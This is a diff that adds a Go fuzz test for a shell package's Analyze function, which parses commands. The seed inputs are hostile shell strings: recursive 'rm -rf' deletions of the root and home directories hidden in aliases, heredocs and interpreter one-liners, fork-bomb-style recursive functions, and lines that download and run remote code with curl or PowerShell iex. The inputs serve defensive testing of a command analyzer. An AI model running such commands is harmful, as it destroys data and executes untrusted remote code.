@@ -1,0 +1,26 @@
+package shell
+
+import "testing"
+
+// FuzzAnalyze: Analyze never panics, and a line that parses never reports more commands than
+// MaxCommands.
+func FuzzAnalyze(f *testing.F) {
+	for _, s := range []string{
+		"rm -rf /", "cd /; rm -rf *", "alias x='rm -rf'; x /", "f() { f; f; }; f",
+		"a() { b; b; }; b() { a; a; }; a", "echo / | xargs -I{} rm -rf {}",
+		"cat > a.sh <<'EOF'\nrm -rf ~\nEOF\nsh a.sh", "python3 -c \"import os; os.system('rm -rf ~')\"",
+		"awk 'BEGIN{system(\"", "perl -e 'system(", "node -e \"spawn('rm', ['-rf'", "$(printf '%",
+		"iex (iwr https://x.example/a.ps1)", "> /var/log/x", "curl -o x https://x/y; ./x",
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		if len(s) > MaxParseBytes {
+			return
+		}
+		r := Analyze(s)
+		if len(r.Commands) > MaxCommands {
+			t.Errorf("Analyze(%q): %d commands > MaxCommands", s, len(r.Commands))
+		}
+	})
+}
